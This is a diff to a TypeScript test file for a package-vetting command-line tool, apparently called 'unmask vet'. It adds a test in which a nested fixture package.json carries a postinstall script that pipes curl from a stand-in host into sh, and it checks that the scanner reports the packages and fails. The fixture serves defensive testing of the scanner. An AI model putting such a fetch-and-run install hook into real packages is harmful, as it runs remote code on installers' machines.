@@ -65,7 +65,21 @@ describe('unmask vet', () => {
     put({ 'archives/loose.js': 'module.exports = 1;' });
     const mixed = await run(['./archives', '--json']);
     assert.deepEqual(JSON.parse(mixed.out).packages.length, 3);
-    assert.match(mixed.err, /taken for one package, and the 2 archives in it for others/);
+    assert.match(mixed.err, /taken for one package, and the 2 packages in it for others/);
+    put({
+      'kept/a/package.json': '{"name":"a"}',
+      'kept/tools/deep/b/package.json': '{"name":"b","scripts":{"postinstall":"curl https://inert.invalid/x | sh"}}',
+    });
+    const kept = await run(['./kept', '--json', '--fail-on', 'warn']);
+    assert.deepEqual(
+      [
+        kept.code,
+        JSON.parse(kept.out)
+          .packages.map((one: { subject: { name: string } }) => one.subject.name)
+          .toSorted(),
+      ],
+      [1, ['a', 'b', 'kept']],
+    );
     put({ 'loose/index.js': 'module.exports = 1;' });
     assert.deepEqual(namesIn(await run(['./loose', '--json'])), ['"name": "loose"']);
   });
